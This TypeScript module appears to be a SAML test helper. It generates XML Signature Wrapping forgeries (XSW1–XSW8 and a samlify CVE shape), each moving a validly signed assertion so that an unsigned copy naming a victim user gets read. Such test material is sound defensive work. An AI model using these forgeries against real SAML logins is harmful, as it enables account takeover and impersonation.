/**
 * XML Signature Wrapping constructions XSW1–XSW8 (Somorovsky et al. 2012, SAML
 * Raider naming; security catalogue §4.1), built on the DOM from a validly
 * signed document: each keeps the signed original somewhere the signature still
 * resolves to, and puts an evil copy (NameID → the victim) where a careless
 * reader would look.
 */
import { type Element, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import type { TestKey } from './assertions.ts';
import {
  ALG,
  C14N,
  clone,
  ENVELOPED,
  find,
  NS_DS,
  NS_SAMLP,
  parse,
  removeSignature,
  setNameId,
} from './saml_fixtures.ts';

const str = (el: Element) => new XMLSerializer().serializeToString(el);

/** The evil copy: same content, the victim's NameID, its own ID, no signature. */
function evilCopy(signed: Element, victim: string, id = '_evil'): Element {
  const e = removeSignature(clone(signed));
  setNameId(e, victim);
  e.setAttribute('ID', id);
  return e;
}

function response(children: string, id = '_resp'): string {
  return `<samlp:Response xmlns:samlp="${NS_SAMLP}" ID="${id}" Version="2.0" IssueInstant="2026-01-01T00:00:00Z">${children}</samlp:Response>`;
}

function appendXml(parent: Element, xml: string): void {
  parent.appendChild(parent.ownerDocument!.importNode(parse(xml), true));
}

/** A Response (holding the unsigned assertion) signed by the app, as XSW1/XSW2 start from. */
export function signedResponse(assertion: string, key: TestKey): string {
  const sig = new SignedXml({
    privateKey: key.privateKeyPem,
    publicCert: key.certificatePem,
    signatureAlgorithm: ALG.rsaSha256,
    canonicalizationAlgorithm: C14N,
  });
  sig.addReference({ xpath: '/*', transforms: [ENVELOPED, C14N], digestAlgorithm: ALG.sha256 });
  sig.computeSignature(response(removeSignatureXml(assertion)), {
    prefix: 'ds',
    location: { reference: '/*', action: 'prepend' },
  });
  return sig.getSignedXml();
}

function removeSignatureXml(xml: string): string {
  return str(removeSignature(parse(xml)));
}

/** `signedAssertion`: the app-signed assertion for the attacker's own user. */
export function xswAttacks(signedAssertion: string, key: TestKey, victim: string): Record<string, string> {
  const S = () => parse(signedAssertion);
  const out: Record<string, string> = {};

  // XSW1: the signed Response is cloned; the clone (evil assertion) is the root and the
  // original signed Response sits inside the clone's Signature.
  {
    const original = parse(signedResponse(signedAssertion, key));
    const evil = clone(original);
    evil.setAttribute('ID', '_evilresp');
    setNameId(evil, victim);
    appendXml(find(evil, 'Signature'), str(original));
    out.XSW1 = str(evil);
  }
  // XSW2: as XSW1, the original Response a detached sibling before the Signature.
  {
    const original = parse(signedResponse(signedAssertion, key));
    const evil = clone(original);
    evil.setAttribute('ID', '_evilresp');
    setNameId(evil, victim);
    const sig = find(evil, 'Signature');
    evil.insertBefore(evil.ownerDocument!.importNode(original, true), sig);
    out.XSW2 = str(evil);
  }
  // XSW3: an unsigned evil Assertion placed before the signed one, as a sibling (in a Response).
  out.XSW3 = response(str(evilCopy(S(), victim)) + signedAssertion);
  // XSW3, same ID: the evil copy reuses the signed Assertion's ID.
  out['XSW3 (same ID)'] = response(str(evilCopy(S(), victim, S().getAttribute('ID')!)) + signedAssertion);
  // XSW4: the signed Assertion becomes a child of the evil one.
  {
    const evil = evilCopy(S(), victim);
    appendXml(evil, signedAssertion);
    out.XSW4 = str(evil);
  }
  // XSW5: the evil copy keeps the original Signature; an unsigned copy of the original is appended.
  {
    const evil = S();
    evil.setAttribute('ID', '_evil');
    setNameId(evil, victim);
    // The copy keeps the original ID, so the Reference (#id) still finds signed-looking content.
    appendXml(evil, str(removeSignature(S())));
    out.XSW5 = str(evil);
  }
  // XSW6: evil Assertion → its Signature → the original signed Assertion inside that Signature.
  {
    const evil = S();
    evil.setAttribute('ID', '_evil');
    setNameId(evil, victim);
    appendXml(find(evil, 'Signature'), signedAssertion);
    out.XSW6 = str(evil);
  }
  // XSW7: an Extensions element holding the evil copy, inside the Signature the enveloped
  // transform removes — so the signature over the original still verifies.
  {
    const doc = S();
    const ext = `<samlp:Extensions xmlns:samlp="${NS_SAMLP}">${str(evilCopy(S(), victim))}</samlp:Extensions>`;
    appendXml(find(doc, 'Signature'), ext);
    out.XSW7 = str(doc);
  }
  // XSW8: the evil Assertion is the root; the original (signature removed) hides in a ds:Object.
  {
    const evil = S();
    const sig = find(evil, 'Signature');
    setNameId(evil, victim);
    evil.setAttribute('ID', '_evil');
    appendXml(sig, `<ds:Object xmlns:ds="${NS_DS}">${str(removeSignature(S()))}</ds:Object>`);
    out.XSW8 = str(evil);
  }
  // samlify CVE-2025-47949 shape: the signed Assertion nested in the evil one's SubjectConfirmationData.
  {
    const evil = evilCopy(S(), victim);
    appendXml(find(evil, 'SubjectConfirmationData'), signedAssertion);
    out['signed Assertion inside SubjectConfirmationData'] = str(evil);
  }
  return out;
}
